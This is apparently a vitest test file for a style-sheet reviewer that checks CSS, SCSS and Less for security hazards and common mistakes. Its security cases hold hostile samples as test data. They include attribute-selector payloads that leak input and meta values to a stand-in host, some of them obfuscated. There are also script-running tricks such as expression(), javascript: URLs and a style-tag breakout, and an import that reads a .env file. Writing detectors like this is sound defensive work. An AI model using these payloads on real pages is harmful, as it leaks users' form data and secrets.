import { describe, expect, test } from 'vitest';
import { judgeStyleSlips } from '../../../../reviewers/quality/styles/judge-styles.ts';
import { judgeStyles } from '../../../../reviewers/security/styles/judge-styles.ts';

function said(text: string): readonly string[] {
  const { hazards, unread } = judgeStyles(text);
  return [
    ...hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim()),
    ...(unread.length > 0 ? ['unread'] : []),
  ];
}

const SENT = ['secret-sent-away critical'];
const RUNS = ['code-injection warning'];
const FROM = 'url(https://x.example/a)';

describe('what style sheets send, run and load', () => {
  test.each([
    [`input[value^="a"] { background: ${FROM} }`, SENT],
    ['input[value$=a] { background-image: url("//x.example/a") }', SENT],
    ['form:has(input[value^="0"]) { background: image-set("https://x.example/0" 1x) }', SENT],
    [`@each $c in a, b { input[value^="#{$c}"] { background: url("https://x.example/#{$c}") } }`, SENT],
    [`input { &[value^="a"] { background: ${FROM} } }`, SENT],
    [`input[\\76 alue^="a"] { background: url(ht\\74ps://x.example/a) }`, SENT],
    [`input[value^="a"]/**/ { background: url(/*x*/https://x.example/a) }`, SENT],
    [`meta[content*="t"] { content: ${FROM} }`, SENT],
    [`@font-face { font-family: a; src: ${FROM}; unicode-range: U+0041 }`, ['secret-sent-away warning']],
    [`:root { --x: ${FROM} } input[value^=a] { background: var(--x) }`, ['unread']],
    ['a { background: src(attr(value)) }', ['unread']],
    [`@import ${FROM};`, ['dependency-source suggestion']],
    ['@im\\70ort "//x.example/a.css" screen;', ['dependency-source suggestion']],
    ["@import 'http://x.example/a.css';", ['dependency-source warning']],
    ['a { width: \\65 xpression(alert(1)) }', RUNS],
    ['a { behavior: url(x.htc) }', RUNS],
    ['a { -moz-binding: url(x.xml#a) }', RUNS],
    ['a { background: url(javascript:alert(1)) }', RUNS],
    ['a { background: url("data:text/html,<b>") }', RUNS],
    ['@a: `process.env.HOME`;', RUNS],
    ['a { color: red } </style><script>x()</script>', ['cross-site-scripting']],
    ['@plugin "x";', ['unread']],
    ['@import (inline) "../../../../.env";', ['unread']],
    ['a { color: red', ['unread']],
  ])('%s', (text, expected) => {
    expect(said(text)).toEqual(expected);
  });
});

test.each([
  '@import url("https://fonts.googleapis.com/css2?family=Inter");',
  'input[type="text"] { background: url(/a.png) }',
  `a[href^="https://"] { background: ${FROM} }`,
  `[data-theme=dark] .a { background: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>") }`,
  '.a { background: url(data:image/png;base64,iVBO//Rw0KGgo=); color: #fff }',
  '@use "./a"; .b { width: calc(1px + 2em); @include c; }',
  "// Tabler's own\n.b { content: 'x' }",
])('nothing is said of %s', (text) => {
  expect(said(text)).toEqual([]);
  expect(judgeStyleSlips(text, 'a.scss')).toEqual({ hazards: [], unread: [] });
});

test.each([
  ['a { color: red !importnat }', 'ignored-declaration'],
  ['a { color: #12345 }', 'ignored-declaration'],
  ['a { color: #ggg }', 'ignored-declaration'],
  ['a { width: 10 px }', 'ignored-declaration'],
  ['a { margin: 1px 2pz }', 'ignored-declaration'],
  ['a { // x\ncolor: red }', 'ignored-declaration'],
  ['a { color: red; color: red }', 'repeated-declaration'],
])('%s', (text, rule) => {
  expect(judgeStyleSlips(text, 'a.css').hazards.map((one) => one.rule)).toEqual([rule]);
});

test.each([
  ['a.css', 'a { colr: red }', 'a { corner-shape: squircle }', 'ignored-declaration'],
  ['a.css', 'a { display: gird }', 'a { display: grid-lanes }', 'ignored-declaration'],
  ['a.css', 'a { width: calc(100%-2px) }', 'a { margin: calc(100% - 2px) 0 -1px }', 'ignored-declaration'],
  ['a.css', 'a { color: red margin: 0 }', 'a { color: red; margin: 0 }', 'ignored-declaration'],
  ['a.css', 'a { color: --x }', 'a { color: var(--x) }', 'ignored-declaration'],
  ['a.css', 'a { grid-template-areas: "a a" "a b" }', 'a { grid-template-areas: "a a" "b b" }', 'ignored-declaration'],
  ['a.css', '@keyframes a { to { top: 1px !important } }', '@keyframes a { to { top: 1px } }', 'ignored-declaration'],
  ['a.css', 'a::hover { top: 0 }', 'a:hover { top: 0 }', 'ignored-style-rule'],
  [
    'a.css',
    '@media (max-width: 600) { a { top: 0 } }',
    '@media (max-width: 600px) { a { top: 0 } }',
    'ignored-style-rule',
  ],
  ['a.css', 'a { top: 0 }\n@import "b.css";', '@import "b.css"; a { top: 0 }', 'ignored-style-rule'],
  ['a.css', 'a { margin-top: 1px; margin: 0 }', 'a { margin: 0; margin-top: 1px }', 'overridden-declaration'],
  [
    'a.css',
    '@keyframes fade {} a { animation: fde 1s }',
    '@keyframes fade {} a { animation: fade 1s }',
    'undefined-style-name',
  ],
  ['a.scss', '@mixin m($a) {} a { @include m; }', '@mixin m($a) {} a { @include m(1); }', 'refused-style'],
  ['a.scss', '$q: print; @media $q { a { top: 0 } }', '$q: print; @media #{$q} { a { top: 0 } }', 'refused-style'],
  ['a.scss', 'a { width: math.div(1px, 2) }', '@use "sass:math"; a { width: math.div(1px, 2) }', 'refused-style'],
  ['a.less', '@a: 1; b { top: @aa }', '@a: 1; b { top: @a }', 'undefined-style-name'],
  ['a.less', '.m(@a) when (@a == 1) { top: 0 }', '.m(@a) when (@a = 1) { top: 0 }', 'refused-style'],
])('%s: %s, and not %s', (path, bad, good, rule) => {
  expect(judgeStyleSlips(bad, path).hazards.map((one) => one.rule)).toEqual([rule]);
  expect(judgeStyleSlips(good, path).hazards).toEqual([]);
});

test.each([
  'a { color: red; color: var(--c) }',
  'a { color: red !default }',
  'a { margin: 1px 2em 1cqw }',
  'a { --x: 10 px }',
])('nothing is wrong with %s', (text) => {
  expect(judgeStyleSlips(text, 'a.scss').hazards).toEqual([]);
});
